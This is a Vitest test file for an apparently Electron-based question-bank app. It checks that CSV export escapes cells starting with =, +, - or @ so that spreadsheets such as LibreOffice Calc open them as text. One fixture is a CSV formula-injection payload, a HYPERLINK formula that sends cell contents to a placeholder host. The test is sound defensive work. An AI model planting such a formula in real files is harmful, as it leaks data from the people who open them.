import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '../../../electron/core/exchange/csv-format';
import { exportQuestions } from '../../../electron/core/questions/export';
import { applyImport, planImport } from '../../../electron/core/questions/import';
import { createQuestion } from '../../../electron/core/questions/questions';
import { makeDraft } from '../../support/question-draft';
import { openTempCore, type TempCore } from '../../support/temp-db';
import { run } from '../documents/tools';

/** Question texts a spreadsheet would run as formulas if written as they are. */
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for the answer")',
  '+1+1 is what?',
  '-2+3 and other sums: explain them?',
  '@SUM(1,2) in your own words?',
  "'=already quoted once?",
];

let core: TempCore;
let other: TempCore;
let csv: string;
let dir: string;
beforeAll(async () => {
  core = await openTempCore();
  other = await openTempCore();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'reqdesk-csv-'));
  for (const text of HOSTILE)
    await createQuestion(core.ctx, makeDraft({ text, strongAnswer: `=1+1 is not ${text.length}` }));
  csv = (await exportQuestions(core.ctx, { format: 'csv' })).content;
});
afterAll(async () => {
  await core.close();
  await other.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('CSV cells a spreadsheet would run', () => {
  it('neutralise and restore each other exactly, whatever the apostrophes', () => {
    for (const cell of ['=1', "'=1", "''+x", '-', '@', '\tx', "'plain", 'plain', '', "'"]) {
      expect(restoreFormula(neutraliseFormula(cell))).toBe(cell);
      expect(neutraliseFormula(cell)).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('are never written with a formula character first', () => {
    const lines = csv.split('\n').slice(1).filter(Boolean);
    expect(lines).toHaveLength(HOSTILE.length);
    for (const line of lines) {
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('read back as the same questions: our own export imports unchanged, and into a new bank as written', async () => {
    expect(
      (await planImport(core.ctx, { fileName: 'q.csv', format: 'csv', content: csv, resolutions: {} }))
        .counts,
    ).toMatchObject({ unchanged: HOSTILE.length, new: 0, invalid: 0 });
    await applyImport(other.ctx, { fileName: 'q.csv', format: 'csv', content: csv, resolutions: {} });
    const json = JSON.parse((await exportQuestions(other.ctx, { format: 'json' })).content) as {
      questions: { text: string; strongAnswer: string }[];
    };
    expect(json.questions.map((q) => q.text)).toEqual(HOSTILE);
    expect(json.questions[0]?.strongAnswer).toMatch(/^=1\+1 is not/);
  });

  it('open in LibreOffice Calc as text, not as formulas', () => {
    const file = path.join(dir, 'questions.csv');
    fs.writeFileSync(file, csv);
    run(
      'soffice',
      [
        `-env:UserInstallation=file://${path.join(dir, 'lo-profile')}`,
        '--headless',
        '--convert-to',
        'xlsx',
        '--outdir',
        dir,
        file,
      ],
      { timeout: 180_000 },
    );
    const xlsx = path.join(dir, 'questions.xlsx');
    expect(fs.existsSync(xlsx), 'LibreOffice Calc (libreoffice-calc-nogui) converted the CSV').toBe(true);
    const sheet = run('unzip', ['-p', xlsx, 'xl/worksheets/sheet1.xml']);
    const strings = run('unzip', ['-p', xlsx, 'xl/sharedStrings.xml']);
    expect(sheet).toContain('<c r="D2"');
    expect(sheet).not.toMatch(/<f[ >]/); // no cell holds a formula
    const texts = [...strings.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) =>
      (m[1] ?? '').replaceAll('&quot;', '"').replaceAll('&apos;', "'").replaceAll('&amp;', '&'),
    );
    for (const text of HOSTILE) expect(texts).toContain(`'${text}`);
  });
});
